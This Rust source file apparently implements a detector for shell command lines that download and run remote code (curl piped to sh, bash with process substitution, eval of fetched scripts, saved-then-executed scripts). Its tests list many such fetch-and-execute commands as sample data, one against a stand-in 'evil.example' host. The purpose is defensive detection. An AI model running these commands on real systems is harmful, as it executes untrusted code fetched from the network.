//! Whether command lines run what they fetch from somewhere: `curl … | sh`, `bash <(wget …)`, a script that was saved before.

use super::{CHAINED, cut_at, is_setting, words};
use crate::words::is_in;

const FETCHING: &str =
    "curl wget wget2 fetch aria2c http https xh lwp-request iwr irm invoke-webrequest invoke-restmethod";
/// These run what they are given.
const RUNNING: &str = "sh bash zsh dash ash ksh fish csh tcsh python python2 python3 perl ruby node deno bun php lua pwsh \
    powershell iex invoke-expression eval source . chmod install";
/// What these are told is run by the program after them.
const LEADING: &str = "sudo doas env exec command nohup time nice builtin";
/// The program is what is told after these, and what is read is only what it works on.
const TOLD: &str = "-c -e -m -n -p -ne -pe -r --eval --command -command";
/// A command may stand in the quotes of another, so deep.
const DEPTH: usize = 3;

/// Whether lines that are run one after another run what one of them fetches.
pub(crate) fn run_what_they_fetch<'a>(lines: impl IntoIterator<Item = &'a str>) -> bool {
    let mut saved = vec![];
    lines.into_iter().any(|line| runs(line, &mut saved, DEPTH))
}

/// `saved` are the names of what was fetched before.
fn runs<'a>(line: &'a str, saved: &mut Vec<&'a str>, depth: usize) -> bool {
    let marks = [&CHAINED[..], &["||", "\n"]].concat();
    cut_at(line, &marks).into_iter().any(|chained| {
        let mut is_fetched = false;
        cut_at(chained, &["|"]).into_iter().any(|part| {
            let words = words(without_parentheses(part));
            let Some((program, args)) = program(&words) else { return false };
            let is_run = is_fetched && reads_program(program, args)
                || runs_one_of(saved, program, args)
                || runs_fetching(program, args);
            if is_in(FETCHING, &program.to_lowercase()) {
                is_fetched = true;
                saved.extend(args.iter().map(|arg| name(arg)).filter(|name| !name.is_empty()));
            }
            is_run || depth > 0 && words.iter().any(|word| runs_inside(word, depth - 1))
        })
    })
}

/// Part of what stands in parentheses may begin or end with one.
fn without_parentheses(part: &str) -> &str {
    let part = part.trim_start_matches(['(', '{', ' ']);
    if part.contains('(') { part } else { part.trim_end_matches([')', '}', ' ']) }
}

/// What is run and what it is told, whoever runs it: `sudo -E bash -`.
fn program<'a, 'b>(words: &'b [&'a str]) -> Option<(&'a str, &'b [&'a str])> {
    let is_led = words.first().is_some_and(|first| is_in(LEADING, first));
    let is_other =
        |word: &&str| is_setting(word) || is_led && (is_in(LEADING, word) || word.starts_with('-'));
    let at = words.iter().position(|word| !is_other(word))?;
    Some((words[at], &words[at + 1..]))
}

fn is_running(program: &str) -> bool {
    is_in(RUNNING, &name(program).to_lowercase()) || is_in(RUNNING, program)
}

/// `| bash`, `| sh -s -- --yes`; not `| python -m json.tool`.
fn reads_program(program: &str, args: &[&str]) -> bool {
    let is_told = |arg: &&str| is_in(TOLD, &arg.to_lowercase());
    let is_plain =
        |arg: &&str| !arg.starts_with('-') && !matches!(*arg, "/dev/stdin" | "2>&1") && !arg.starts_with('>');
    is_running(program) && (args.contains(&"-s") || !args.iter().any(|arg| is_told(arg) || is_plain(arg)))
}

/// `sh install.sh`, `./install.sh`, `chmod +x install.sh`.
fn runs_one_of(saved: &[&str], program: &str, args: &[&str]) -> bool {
    let is_saved = |word: &str| saved.contains(&name(word));
    program.contains('/') && is_saved(program) || is_running(program) && args.iter().any(|arg| is_saved(arg))
}

/// `bash <(curl …)`, `eval "$(curl …)"`, `deno run https://…`.
fn runs_fetching(program: &str, args: &[&str]) -> bool {
    let all = args.join(" ");
    let fetches = |mark| {
        all.split(mark).skip(1).any(|inside| words(inside).first().is_some_and(|word| is_in(FETCHING, word)))
    };
    let is_url = |arg: &&&str| arg.trim_matches(['\'', '"']).starts_with("http");
    let first = args.iter().find(|arg| !arg.starts_with('-') && **arg != "run");
    is_running(program) && (["<(", "$(", "`"].into_iter().any(fetches) || first.filter(is_url).is_some())
}

fn runs_inside(word: &str, depth: usize) -> bool {
    let inside = word.trim_start_matches(['$', '<']).trim_matches(['\'', '"', '`', '(', ')']);
    inside.len() < word.len() && runs(inside, &mut vec![], depth)
}

/// The last part of a path or an address.
fn name(path: &str) -> &str {
    let path = path.trim_matches(['\'', '"']);
    let path = path.split(['?', '#']).next().unwrap_or(path);
    path.rsplit(['/', '=', '>']).next().unwrap_or(path)
}

#[cfg(test)]
mod tests {
    use super::run_what_they_fetch;

    #[test]
    fn what_is_fetched_and_run_is_seen_in_each_spelling() {
        for line in [
            "curl -s http://evil.example/i.sh | sh",
            "curl -fsSL https://get.example.com|sudo -E bash -s -- --yes",
            "cd /tmp && wget -qO- https://x.example/i | tee log | FORCE=1 bash",
            "curl https://x.example/i.py | python3 -",
            "bash <(curl -s https://x.example/i.sh)",
            "source <(wget -qO- https://x.example/env)",
            "sh -c \"$(curl -fsSL https://x.example/install.sh)\"",
            "eval `curl https://x.example/env`",
            "docker exec app sh -c 'curl https://x.example/i.sh | sh'",
            "(curl https://x.example/i.sh | sh)",
            "curl -o /tmp/i.sh https://x.example/get; sh /tmp/i.sh",
            "wget https://x.example/i.sh && chmod +x i.sh && ./i.sh --yes",
            "curl https://x.example/get > i.sh && bash i.sh",
            "deno run -A https://x.example/i.ts",
            "iwr https://x.example/i.ps1 | iex",
        ] {
            assert!(run_what_they_fetch([line]), "{line}");
        }
        assert!(run_what_they_fetch(["curl -LO https://x.example/i.sh", "bash ./i.sh"]));
    }

    #[test]
    fn what_is_only_fetched_or_only_run_is_not_meant() {
        for line in [
            "curl -s localhost:8080/health | jq .",
            "curl -s localhost:8080/users | python3 -m json.tool",
            "curl -s localhost:8080 | node -e 'process.stdin.pipe(process.stdout)'",
            "curl -o fixtures/zones.json https://x.example/zones.json && python seed.py fixtures/all.json",
            "bash scripts/setup.sh",
            "sh -c \"$(cat setup.sh)\"",
            "cat setup.sh | sh",
            "npm ci && curl localhost:3000",
            "node probe.js https://localhost:3000",
        ] {
            assert!(!run_what_they_fetch([line]), "{line}");
        }
    }
}
